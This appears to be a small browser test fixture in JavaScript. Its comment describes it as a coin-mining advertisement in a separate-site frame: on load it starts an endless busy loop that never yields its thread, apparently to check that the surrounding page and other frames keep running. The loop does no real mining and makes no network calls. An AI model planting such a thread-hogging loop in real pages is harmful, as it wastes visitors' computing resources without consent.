// An advertisement that mines coins on the visitor's computer: once its page has loaded (so the
// page around it loads too) it never gives its thread back. Its frame is of a site of its own, in
// a process of its own, so the page around it and its other frames go on as before.
addEventListener('load', () => {
  setTimeout(() => {
    let hash = 0;
    for (;;) hash = (hash * 31 + 7) % 1000003;
  }, 200);
});
